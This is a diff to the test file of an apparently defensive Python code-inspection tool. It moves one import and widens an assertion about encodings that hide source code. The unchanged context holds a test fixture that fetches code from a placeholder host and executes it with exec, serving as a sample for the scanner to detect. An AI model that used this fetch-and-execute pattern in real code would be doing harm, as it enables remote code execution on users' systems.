@@ -10,9 +10,10 @@ from hypothesis import strategies as st
 from sekisho.inspection.configs.document import MalformedDocument, read_ini, read_json, read_toml, read_yaml
 from sekisho.inspection.extract import extract
 from sekisho.inspection.findings import Findings, Mark, Sink, Source
+from sekisho.inspection.invisible import hidden
 from sekisho.inspection.languages.folding import DECODERS, fold
 from sekisho.inspection.languages.pickles import read_pickle
-from sekisho.inspection.text import decode, hidden, shown
+from sekisho.inspection.text import decode, shown
 from sekisho.inspection.virtual import VirtualFile
 
 HIT = "\nimport requests\nexec(requests.get('https://a.invalid').text)\n"
@@ -94,7 +95,7 @@ def test_the_source_is_read_as_python_would_read_it(data: bytes) -> None:
 
 @pytest.mark.parametrize("data", [ENCODED["utf-7"], ENCODED["rot13"], ENCODED["UTF-16"]])
 def test_an_encoding_that_hides_is_told(data: bytes) -> None:
-    assert Mark.HIDE in {sight.mark for sight in read("a.py", data).sights}
+    assert {Mark.DECEIVE, Mark.HIDE} & {sight.mark for sight in read("a.py", data).sights}
 
 
 def test_an_encoding_that_people_use_is_not() -> None:
